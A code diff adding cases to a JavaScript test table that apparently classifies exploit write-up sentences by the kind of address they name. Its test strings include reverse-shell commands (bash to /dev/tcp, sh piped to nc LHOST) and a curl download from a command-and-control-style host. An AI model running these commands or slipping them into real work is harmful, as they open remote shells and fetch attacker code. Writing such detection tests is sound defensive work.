@@ -15,6 +15,16 @@ it.each([
     'The exploit gave a shell: `⟦bash -i >& /dev/tcp/10.10.14.3/4444⟧`.',
     true,
   ],
+  [
+    'what stands for an address, behind what is claimed',
+    'The exploit gave a shell: `⟦sh -i⟧ 2>&1 | nc LHOST 4444`.',
+    true,
+  ],
+  [
+    'a host by its name beside it',
+    'The exploit gave a shell: `⟦curl http://c2.net/x -o 10.0.0.1⟧`.',
+    false,
+  ],
   ['a public one', 'The exploit gave a shell: `⟦bash -i >& /dev/tcp/45.77.12.9/4444⟧`.', false],
   ['a script', '⟦bash -i >& /dev/tcp/10.10.14.3/4444⟧', false],
 ])('tells %s', (_, written, expected) => {
